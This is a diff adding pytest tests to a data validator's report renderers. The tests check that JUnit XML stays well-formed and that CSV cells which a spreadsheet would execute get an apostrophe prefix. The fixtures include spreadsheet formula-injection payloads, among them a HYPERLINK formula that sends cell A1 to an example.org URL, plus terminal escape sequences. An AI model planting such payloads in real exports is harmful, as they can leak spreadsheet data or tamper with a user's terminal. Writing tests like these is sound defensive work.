@@ -17,7 +17,7 @@ from click.testing import CliRunner
 from support import EXAMPLE, TODAY, copy_example, set_cell
 
 from ffb.report.escaping import INVISIBLE, visible
-from ffb.report.model import ISSUE_FRAME_SCHEMA, Report, count_issues
+from ffb.report.model import ISSUE_FRAME_SCHEMA, Report, count_issues, group_issues
 from ffb.report.text import render_text
 from ffb.validate import cli
 
@@ -39,7 +39,7 @@ def report_with(values: dict[str, str], input_name: str = "export.csv", lang: st
     counts, by_table, by_rule = count_issues(issues)
     return Report(input=input_name, kind="table", lang=lang, fail_on="error", issues=issues,
                   tables={"citizens": {"source": row["source"], "rows": 1}},
-                  counts=counts, by_table=by_table, by_rule=by_rule)
+                  counts=counts, by_table=by_table, by_rule=by_rule, groups=group_issues(issues))
 
 
 # --- terminal markup (values, file names and sheet names are text, not markup) -------------
@@ -189,3 +189,101 @@ def test_a_report_file_is_written_whole_with_ordinary_permissions(tmp_path):
     assert "Gyldig" in target.read_text(encoding="utf-8")
     assert target.stat().st_mode & 0o044  # readable by others, as any file the user writes
     assert [p.name for p in tmp_path.iterdir()] == ["report.txt"]  # no temporary file left
+
+
+# --- JUnit is well-formed XML whatever the values hold --------------------------------------
+
+HOSTILE_VALUES = ["nul\x00here", "ctl\x01\x08\x0b\x0c\x1f", "esc\x1b[2J", "bad\ufffe\uffff", "amp & <tag> \"q\" 'a'",
+                  "]]>", "lf\nline", "del\x7f c1\x85\x9b", "zw\u200b nb\u00a0"]
+
+
+def test_junit_is_well_formed_xml_with_control_characters(tmp_path):
+    from xml.etree import ElementTree
+
+    from ffb.report.junit import render_junit
+
+    for value in HOSTILE_VALUES:
+        report = report_with({"value": value, "message": f"{value} is wrong.", "source": f"f{value}.csv",
+                              "column": value, "table": f"t{value}"}, input_name=f"in{value}.csv")
+        document = render_junit(report)
+        root = ElementTree.fromstring(document.encode("utf-8"))  # expat rejects any character XML forbids
+        text = "".join(root.itertext())
+        assert f"{visible(value)} is wrong." in text
+        assert f"f{visible(value)}.csv" in text
+
+
+def test_junit_from_the_command_parses(tmp_path):
+    from xml.etree import ElementTree
+
+    folder = copy_example(tmp_path)
+    # (a NUL byte makes a CSV file binary to the reader, so that one is tested above only)
+    for row, value in enumerate(HOSTILE_VALUES[1:6], start=2):
+        set_cell(folder, "citizens", row, "id", value)
+    result = run(str(folder), "--format", "junit", "--lang", "en")
+    assert result.returncode == 1, result.stderr
+    root = ElementTree.fromstring(result.stdout.encode("utf-8"))
+    assert "ctl\\u0001\\u0008\\u000b\\u000c\\u001f" in "".join(root.itertext())
+
+
+# --- CSV cells are never formulas ------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("https://example.org/?x="&A1,"klik")', "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1",
+            "\r=1+1", "\uff1d1+1"]
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_get_an_apostrophe(tmp_path):
+    import csv
+    import io
+
+    from ffb.report.csv_format import render_csv
+
+    for formula in FORMULAS:
+        report = report_with({"value": formula, "message": f"{formula} is wrong.", "source": formula,
+                              "column": formula, "hint": formula})
+        (row,) = csv.DictReader(io.StringIO(render_csv(report), newline=""))
+        for name in ("value", "source", "column", "hint"):
+            assert row[name] == "'" + formula, (name, row[name])
+        assert row["message"] == f"'{formula} is wrong."
+
+    # from the command, on a real export (a CR inside a cell is a matter for the CSV reader)
+    folder = copy_example(tmp_path)
+    plain = [f for f in FORMULAS if "\r" not in f and "\uff1d" not in f]
+    for row_number, formula in enumerate(plain, start=2):
+        set_cell(folder, "citizens", row_number, "birth_year", formula)
+    result = run(str(folder), "--format", "csv", "--lang", "en")
+    assert result.returncode == 1, result.stderr
+    rows = [r for r in csv.DictReader(io.StringIO(result.stdout, newline="")) if r["column"] == "birth_year"]
+    assert {r["value"] for r in rows} == {"'" + formula for formula in plain}
+    for r in rows:
+        assert r["message"].startswith("'"), r["message"]
+        for name, cell in r.items():
+            assert not cell or cell[0] not in "=+-@\t\r\uff1d", (name, cell)
+
+
+def test_a_plain_csv_cell_is_left_alone():
+    from ffb.report.csv_format import render_csv
+
+    report = report_with({"value": "1958", "message": "a – b = c"})
+    assert "'" not in render_csv(report)
+
+
+# --- the JSON report is streamed from the columns --------------------------------------------
+
+def test_json_report_in_slices_is_one_valid_document(monkeypatch):
+    import json
+
+    from ffb.report import json_format
+
+    rows = [{"code": "FFB207", "severity": "error", "source": "a.csv", "table": "citizens", "row": i,
+             "pointer": None, "column": "id", "value": f"v{i}\n\"x\"", "message": f"m{i}"} for i in range(2, 25)]
+    issues = pl.DataFrame(rows, schema=ISSUE_FRAME_SCHEMA)
+    counts, by_table, by_rule = count_issues(issues)
+    report = Report(input="a.csv", kind="table", lang="en", fail_on="error", issues=issues,
+                    tables={"citizens": {"source": "a.csv", "rows": 23}}, counts=counts, by_table=by_table,
+                    by_rule=by_rule, groups=group_issues(issues))
+    monkeypatch.setattr(json_format, "ISSUES_PER_SLICE", 5)
+    document = json.loads(json_format.render_json(report))
+    assert document["issues"] == report.to_dict()["issues"]
+    assert document["summary"]["counts"]["error"] == 23
+    empty = Report(input="a.csv", kind="table", lang="en", fail_on="error", issues=issues.head(0))
+    assert json.loads(json_format.render_json(empty))["issues"] == []
